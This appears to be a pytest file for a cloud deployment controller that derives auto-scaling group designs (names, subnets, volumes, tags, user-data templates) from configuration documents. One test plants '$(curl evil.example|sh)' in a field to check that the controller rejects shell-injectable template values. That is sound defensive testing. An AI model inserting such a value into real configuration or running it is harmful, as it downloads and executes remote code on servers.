"""What groups are wanted, told from documents alone."""

from typing import Any

import pytest

from controller.kinds.template import filled_in
from controller.model.accepted import LiveOptions
from controller.model.live import LiveScope
from controller.model.ref import ResourceRef
from controller.targets.group_parts.designs import Designs, designs
from controller.targets.group_parts.found import ImageMark
from controller.targets.group_parts.old_user_data import ON_LINUX, ON_WINDOWS
from controller.targets.group_parts.role_design import GroupDesign
from controller.targets.group_parts.wanted import Findings, deep_attributes
from tests.support.live_account import FLEET, SCOPE, Documents, accepted_of

WEB = "c50-ta-Web"


def with_role(documents: Documents | None = None, **fields: Any) -> Documents:
    """Return documents whose only role has other fields; None takes one away."""
    documents = dict(documents or FLEET)
    (role,) = documents["DeploymentMap", "web"]["roles"]
    merged = {key: one for key, one in {**role, **fields}.items() if one is not None}
    documents["DeploymentMap", "web"] = {"roles": [merged]}
    return documents


def with_fields(kind: str, name: str, **fields: Any) -> Documents:
    """Return documents of which one has other fields."""
    return {**FLEET, (kind, name): {**FLEET.get((kind, name), {}), **fields}}


def found(documents: Documents, **options: Any) -> Designs:
    return designs(accepted_of(documents, LiveOptions(**options)), SCOPE)


def design(documents: Documents, name: str = WEB, **options: Any) -> GroupDesign:
    return found(documents, **options).groups[name]


@pytest.mark.parametrize(
    ("documents", "names", "because"),
    [
        (FLEET, [WEB], "environment, short name of the cluster, role"),
        (with_role(fleetPerSlice=True), [f"{WEB}-blue", f"{WEB}-green"], "a group for each slice"),
        (with_role(fleetPerSlice=True, slices={"green": {}}), [f"{WEB}-green"], "slices kept"),
        (with_fields("Environment", "c50", lifecycle="retired"), [], "a retired one has none"),
        (
            with_fields("Environment", "c50", roles={"Web": {"enabled": False}}),
            [],
            "it does not have the role",
        ),
        (with_fields("EnvironmentType", "Staging", region="us-east-1"), [], "it lives elsewhere"),
    ],
)
def test_which_groups_there_are(documents: Documents, names: list[str], because: str) -> None:
    assert list(found(documents).groups) == names, because


def test_a_type_without_a_region_lives_in_that_of_the_settings() -> None:
    documents = with_fields("EnvironmentType", "Staging", region=None)
    documents["EnvironmentType", "Staging"].pop("region")
    assert list(found(documents).groups) == [WEB]
    assert not found(documents, default_region="us-east-1").groups


def test_what_an_environment_says_of_its_roles_comes_over_the_map() -> None:
    documents = with_fields(
        "Environment",
        "c50",
        roles={"Web": {"instanceType": "c6i.large", "autoScalingSettings": {"maxCapacity": 8}}},
    )
    own = design(documents)
    assert (own.instance_type, own.sizes.maximum, own.sizes.desired) == ("c6i.large", 8, 2)
    assert own.origin.path == "Environment-c50.yaml"
    assert design(FLEET).origin.path == "DeploymentMap-web.yaml"


@pytest.mark.parametrize(
    ("fields", "attribute", "wanted", "because"),
    [
        ({}, "profile", "roleTangoWeb", "by convention"),
        ({"instanceProfileName": "own"}, "profile", "own", "by name"),
        ({}, "security_groups", ("sgRoleTangoWeb",), "by convention"),
        ({"securityGroups": ["a", "b"]}, "security_groups", ("a", "b"), "in place of the role's"),
        ({}, "key_pair", "tango", "that of the cluster"),
        ({"clusterKeyName": "own"}, "key_pair", "own", "by name"),
        ({"terminationDelay": None}, "termination_delay", 0, "no hook"),
        ({}, "schedule_tag", None, "the role has no schedule"),
        ({"schedule": "noschedule"}, "schedule_tag", "noschedule", "a mode"),
        ({"scheduleTag": "247"}, "schedule_tag", "247", "as it is written"),
        ({"rollout": "none"}, "rollout", "none", "none"),
        ({"rollout": {"instanceRefresh": {}}}, "rollout", "instanceRefresh 90", "the default"),
        ({"imagePolicy": "follow"}, "follows_image", True, "followed"),
        ({"availabilityZoneName": "BA"}, "subnets", ("subnet-1b", "subnet-1a"), "in the order given"),
        ({"availabilityZoneName": ["B", "F"]}, "subnets", ("subnet-1b",), "F has no subnet"),
        ({"availabilityZoneName": "*"}, "subnets", ("subnet-1a", "subnet-1b"), "all"),
        ({"notifications": [{"topic": "t", "events": ["launch"]}]}, "notifications",
         {"arn:aws:sns:eu-west-1:012345670123:t": ("autoscaling:EC2_INSTANCE_LAUNCH",)}, "by name"),
    ],
)  # fmt: skip
def test_what_a_role_comes_to(
    fields: dict[str, Any], attribute: str, wanted: Any, because: str
) -> None:
    if "scheduleTag" in fields:
        fields = {"scheduleTag": "start: 0 8 * * *; stop: 0 19 * * *"}
        wanted = fields["scheduleTag"]
    assert getattr(design(with_role(**fields)), attribute) == wanted, because


@pytest.mark.parametrize(
    ("volumes", "wanted", "because"),
    [
        ([], ["/dev/sda1 50 GB gp2", "/dev/sda2 50 GB gp2, encrypted"], "an SSD of 50 GB each"),
        (
            [{"name": "Data", "size": 0}, {"name": "OS", "size": 80, "type": "Disk"}],
            ["/dev/sda1 80 GB standard"],
            "a data volume of nothing is none; what is no SSD is magnetic",
        ),
        (
            [{"name": "Data", "size": 10, "type": "SSD"}],
            ["/dev/sda1 50 GB gp2", "/dev/sda2 10 GB gp2, encrypted"],
            "data is encrypted",
        ),
    ],
)
def test_volumes(volumes: list[Any], wanted: list[str], because: str) -> None:
    disks = design(with_role(volumes=volumes)).volumes
    assert [f"{disk.device} {disk}" for disk in disks] == wanted, because


def test_tags_and_their_keys() -> None:
    tags = design(with_role(fleetPerSlice=True), f"{WEB}-blue").tags
    assert tags == {
        "EnvironmentType": "Staging",
        "Environment": "c50",
        "OwningCluster": "Tango",
        "OwningTeam": "Tango",
        "OwningClusterShortName": "ta",
        "Role": "Web-blue",
        "SecurityZone": "Other",
        "ContactEmail": "tango@acme.example",
    }
    renamed = design(FLEET, tag_keys={"OwningTeam": "team", "OwningCluster": ""}).tags
    assert renamed["team"] == "Tango"
    assert not {"OwningTeam", "OwningCluster"} & renamed.keys()


@pytest.mark.parametrize(("name", "monitored"), [("Prod", True), ("PROD", True), ("Prod2", False)])
def test_production_is_monitored_in_detail(name: str, monitored: bool) -> None:
    documents = {**FLEET, ("EnvironmentType", name): FLEET["EnvironmentType", "Staging"]}
    documents["Environment", "c50"] = {**FLEET["Environment", "c50"], "environmentType": name}
    assert design(documents).detailed_monitoring is monitored


def test_user_data_is_the_template_or_three_lines() -> None:
    assert design(with_role(projectCodeTag="P1", puppetRole="web")).user_data == (
        "ProjectCode=P1\nPuppetRole=web\n"
    )
    documents = with_role(userData="linux", puppetRole="web")
    text = "{{ environment }} {{ runtimeRole }} {{accountNumber}} {{ slice }}|{{ puppetRole }} ${X}"
    documents["Template", "linux"] = {"text": text}
    assert design(documents).user_data == "c50 Web 012345670123 |web ${X}"


@pytest.mark.parametrize(
    ("platform", "form"), [("Linux", ON_LINUX), ("Windows", ON_WINDOWS), ("", ON_LINUX)]
)
def test_images_of_the_old_product_get_what_they_expect(platform: str, form: str) -> None:
    of_role = design(with_role(projectCodeTag="P1", puppetRole="web"), old_user_data=True)
    image = ImageMark("web", "ami-1", platform)
    given = deep_attributes(of_role, image, {}, Findings({}))["userData"]
    assert given == filled_in(form, of_role.values)
    assert "P1" in given

    documents = with_role(userData="own")
    documents["Template", "own"] = {"text": "#!/bin/sh\n"}
    named = design(documents, old_user_data=True)
    assert deep_attributes(named, image, {}, Findings({}))["userData"] == "#!/bin/sh\n"


def test_a_value_that_a_shell_could_run_leaves_the_group_as_it_is_and_says_so() -> None:
    documents = with_fields("EnvironmentType", "Staging", puppetBranch="$(curl evil.example|sh)")
    documents["DeploymentMap", "web"] = with_role(userData="linux")["DeploymentMap", "web"]
    documents["Template", "linux"] = {"text": "#!/bin/bash\nBRANCH={{ puppetBranch }}\n"}
    told = found(documents)
    ((name, lack),) = told.troubles.items()
    assert (name, told.groups) == (WEB, {})
    assert "puppetBranch is '$(curl evil.example|sh)'" in lack.what
    assert lack.fix == "correct it, or leave puppetBranch out"
    documents["Template", "linux"] = {"text": "#!/bin/bash\n"}
    assert design(documents).user_data == "#!/bin/bash\n", "only what a template names counts"


def test_a_filled_in_template_may_be_too_long() -> None:
    documents = with_role(userData="linux", contactEmailTag="everybody-of-the-team@acme.example")
    documents["Template", "linux"] = {"text": "{{ contactEmail }}" * 900}
    ((name, lack),) = found(documents).troubles.items()
    assert (name, "has at most 16384" in lack.what) == (WEB, True)


@pytest.mark.parametrize("kind", ["Environment", "EnvironmentType", "Account", "DeploymentMap", "Cluster"])  # fmt: skip
def test_what_cannot_be_read_back_leaves_its_environments(kind: str) -> None:
    accepted = accepted_of(FLEET)
    (ref,) = (one for one in accepted.resources if one.kind == kind)
    resources = {one: found for one, found in accepted.resources.items() if one != ref}
    specs = {one: found for one, found in accepted.specs.items() if one != ref}
    broken = type(accepted)(resources=resources, specs=specs, unreadable={ref: "it is odd"})
    told = designs(broken, SCOPE)
    assert not told.groups
    assert list(told.untold) == ["c50"]


def test_another_account_is_another_scope() -> None:
    other = LiveScope("other/eu-west-1", "999999999999", "eu-west-1", "other")
    assert not designs(accepted_of(FLEET), other).groups
    assert ResourceRef("Account", "staging-eu") in accepted_of(FLEET).resources
